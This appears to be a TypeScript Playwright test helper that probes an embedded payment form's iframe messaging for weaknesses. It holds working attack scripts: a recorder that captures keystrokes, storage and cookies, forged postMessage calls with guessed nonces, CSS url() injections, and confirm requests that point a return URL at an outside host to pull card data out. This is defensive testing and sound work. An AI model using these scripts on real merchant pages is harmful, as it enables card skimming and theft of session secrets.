// Scripts that run in a page of a merchant. They are text, because tests are compiled without the types of a browser.
import type { Page } from 'playwright-core'

/** Runs before the scripts of the page: writes down whatever they could see. */
export const RECORD = `if (window === top) {
  const seen = []
  window.seen = seen
  const write = (what, value) => seen.push(what + ' ' + JSON.stringify(value))
  const { postMessage } = MessagePort.prototype
  const { addEventListener } = EventTarget.prototype
  EventTarget.prototype.addEventListener = function (name, ...rest) {
    if (this instanceof MessagePort && name === 'message')
      addEventListener.call(this, name, ({ data }) => write('port', data))
    return addEventListener.call(this, name, ...rest)
  }
  MessagePort.prototype.postMessage = function (...rest) {
    write('to port', rest[0])
    return postMessage.apply(this, rest)
  }
  for (const name of ['message', 'keydown', 'keyup', 'input', 'change', 'paste', 'beforeinput'])
    addEventListener.call(window, name, ({ data, key }) => write(name, [data, key]), true)
  const look = () => {
    write('page', document.documentElement?.outerHTML)
    write('storage', [{ ...localStorage }, { ...sessionStorage }, document.cookie, location.href])
    write('frames', Array.from(document.querySelectorAll('iframe'), ({ src }) => src))
  }
  new MutationObserver(look).observe(document, {
    subtree: true, childList: true, attributes: true, characterData: true,
  })
}`

export function seenBy(page: Page): Promise<string[]> {
  return page.evaluate('window.seen')
}

/** Posts to the frame of the form as a script does that does not know its nonce; returns all answers. */
export const FORGE = `(async () => {
  const frame = window.frames[0]
  const received = []
  for (const nonce of ['', 'guess', undefined]) {
    const { port1, port2 } = new MessageChannel()
    port1.onmessage = ({ data }) => received.push(data)
    frame.postMessage({ florin: 1, nonce, appearance: {} }, '*', [port2])
    const order = { client_secret: 'pay_1_secret_2', details: {} }
    port1.postMessage({ type: 'confirm', ...order })
    for (const type of ['confirm', 'clear', 'values', 'result'])
      frame.postMessage({ type, nonce, ...order }, '*')
  }
  await new Promise((resolve) => setTimeout(resolve, 1_000))
  return received
})()`

/**
 * Embeds the form without florin.js. Before it opens the form, with an appearance that is CSS, another frame of the page
 * tries with the right nonce, and the page with a wrong one: window.forged has the answers to those.
 */
export const hostileScript = (address: string, host: string) => `
  Object.assign(window, { received: [], forged: [] })
  window.addEventListener('message', ({ data }) => window.forged.push(JSON.stringify(data)))
  const frame = document.createElement('iframe')
  frame.src = '${address}#mine'
  const sibling = document.createElement('iframe')
  sibling.srcdoc = \`<script>
    const { port1, port2 } = new MessageChannel()
    port1.onmessage = ({ data }) => parent.postMessage(data, '*')
    parent.frames[0].postMessage({ florin: 1, nonce: 'mine', appearance: {} }, '*', [port2])
  </\${'script'}>\`
  const open = (nonce, list, appearance) => {
    const { port1, port2 } = new MessageChannel()
    port1.onmessage = ({ data }) => list.push(JSON.stringify(data))
    frame.contentWindow.postMessage({ florin: 1, nonce, appearance }, '*', [port2])
    return port1
  }
  frame.addEventListener('load', () => document.querySelector('main').append(sibling))
  sibling.addEventListener('load', () => setTimeout(() => {
    open('guess', window.forged, {})
    const url = 'url(http://${host}/css)'
    const variables = { color_text: 'red;background:' + url, color_background: url, border_radius: url, '--ink': url }
    window.port = open('mine', window.received, { theme: url, variables })
  }, 300))
  document.querySelector('#card').append(frame)
`

/** Asks the form for what was typed, and to send it to another host; returns all that it said. */
export const exploit = (host: string) => `(async () => {
  for (const type of ['values', 'read', 'get', 'focus', 'appearance', 'toString'])
    window.port.postMessage({ type, field: 'number', appearance: null })
  for (const id of ['//${host}/x', 'http://${host}/x', '../../${host}', 'pay_1?x=//', '\\\\\\\\x']) {
    const details = { payment_method_data: {}, return_url: 'http://${host}', metadata: { a: 1 } }
    window.port.postMessage({ type: 'confirm', client_secret: id + '_secret_x', details })
    await new Promise((resolve) => setTimeout(resolve, 300))
  }
  return window.received
})()`
